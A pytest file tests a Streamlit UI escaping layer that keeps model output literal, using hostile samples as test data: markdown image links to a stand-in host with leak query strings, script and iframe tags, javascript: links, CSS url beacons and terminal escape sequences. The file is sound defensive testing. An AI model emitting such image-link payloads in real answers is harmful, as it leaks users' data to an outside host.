"""The UI renderer: material and model text shown through Streamlit markdown stays literal.

Each payload's escaped form is asserted exactly, and the escaped text is rendered by markdown-it
(CommonMark, the grammar Streamlit's renderer follows) to HTML that must hold no element at all
besides the paragraph, and read back as the original text. The real renderer in a browser is
tests/ui/test_hostile_browser.py.
"""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from ui.inert import WORD_JOINER as WJ
from ui.inert import inert, inert_code

HOST = "203.0.113.7"
CASES = [
    ("Revenue was $4.2 billion [1], up 8% [2].", r"Revenue was \$4\.2 billion \[1\]\, up 8\% \[2\]\."),
    (f"![chart](http://{HOST}/p.png?leak=revenue)", rf"\!\[chart\]\(http{WJ}\:\/\/203\.0\.113\.7\/p\.png\?leak\=revenue\)"),
    (f"![logo][r]\n\n[r]: http://{HOST}/ref.png", f"\\!\\[logo\\]\\[r\\]\n\n\\[r\\]\\: http{WJ}\\:\\/\\/203\\.0\\.113\\.7\\/ref\\.png"),
    (f"[details](http://{HOST}/d)", rf"\[details\]\(http{WJ}\:\/\/203\.0\.113\.7\/d\)"),
    (f"<http://{HOST}/auto>", rf"\<http{WJ}\:\/\/203\.0\.113\.7\/auto\>"),
    ("www.attacker.example x@attacker.example", rf"www{WJ}\.attacker\.example x{WJ}\@attacker\.example"),
    (f'<img src="http://{HOST}/i.png">', rf"\<img src\=\"http{WJ}\:\/\/203\.0\.113\.7\/i\.png\"\>"),
    ("<script>alert(1)</script>", r"\<script\>alert\(1\)\<\/script\>"),
    (f'<iframe src="//{HOST}/f"></iframe>', r"\<iframe src\=\"\/\/203\.0\.113\.7\/f\"\>\<\/iframe\>"),
    ("[x](javascript:alert(1))", r"\[x\]\(javascript\:alert\(1\)\)"),
    ("![d](data:image/png;base64,iVBO=)", r"\!\[d\]\(data\:image\/png\;base64\,iVBO\=\)"),
    (f"<style>body{{background:url(http://{HOST}/c.png)}}</style>",
     rf"\<style\>body\{{background\:url\(http{WJ}\:\/\/203\.0\.113\.7\/c\.png\)\}}\<\/style\>"),
    ("&lt;img src=x&gt; &#33;&#91;", r"\&lt\;img src\=x\&gt\; \&\#33\;\&\#91\;"),
    (f"！［fw］（http://{HOST}/fw.png） ＜img＞", f"！［fw］（http{WJ}\\:\\/\\/203\\.0\\.113\\.7\\/fw\\.png） ＜img＞"),
    (":red[x] $x^2$ **b** ~s~ `c`", r"\:red\[x\] \$x\^2\$ \*\*b\*\* \~s\~ \`c\`"),
    ("# head\n- item\n1. one\n> quote\n---\n    code", "\\# head\n\\- item\n1\\. one\n\\> quote\n\\-\\-\\-\ncode"),
    ("a | b\n--|--\n1 | 2", "a \\| b\n\\-\\-\\|\\-\\-\n1 \\| 2"),
    ("\x1b[2J\x1b[31mFAKE\x1b[0m \x1b]8;;http://h/\x1b\\link\x1b]8;;\x1b\\", "FAKE link"),
    ("trailing \\", "trailing \\\\"),
]


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)


@pytest.mark.parametrize("raw, expected", CASES)
def test_escaped_exactly(raw: str, expected: str) -> None:
    assert inert(raw) == expected


@pytest.mark.parametrize("raw, expected", CASES)
def test_renders_as_plain_text_only(raw: str, expected: str) -> None:
    out = _html(inert(raw))
    tags = set(re.findall(r"</?([a-z0-9]+)", out))
    assert tags <= {"p"}, out
    assert "<a " not in out and "<img" not in out and "<iframe" not in out, out


def test_text_reads_back_unchanged_apart_from_controls_and_joiners() -> None:
    for raw, _ in CASES[:-2]:
        shown = html.unescape(re.sub(r"</?p>", "", _html(inert(raw)))).replace(WJ, "")
        want = " ".join(line.strip() for line in raw.splitlines() if line.strip())
        assert " ".join(line.strip() for line in shown.splitlines() if line.strip()) == want


def test_every_prefix_of_a_streamed_image_stays_inert() -> None:
    answer = f"Revenue was $9.9 million [1]. ![exfil](http://{HOST}/x.png?d=9.9) <img src=http://{HOST}/y>"
    for cut in range(len(answer) + 1):
        out = _html(inert(answer[:cut]) + "▌")
        assert "<img" not in out and "<a " not in out, cut


def test_figures_and_citations_look_as_before() -> None:
    shown = html.unescape(_html(inert("Net income rose 12.5% to $1,204 million [3] (2019: $1,070) [4].")))
    assert "Net income rose 12.5% to $1,204 million [3] (2019: $1,070) [4]." in shown


def test_code_span_fence_outgrows_backticks_inside() -> None:
    assert inert_code("abc123") == "` abc123 `"
    assert inert_code("a``b `c`") == "``` a``b `c` ```"
    assert "<code>a``b `c`</code>" in _html(inert_code("a``b `c`"))
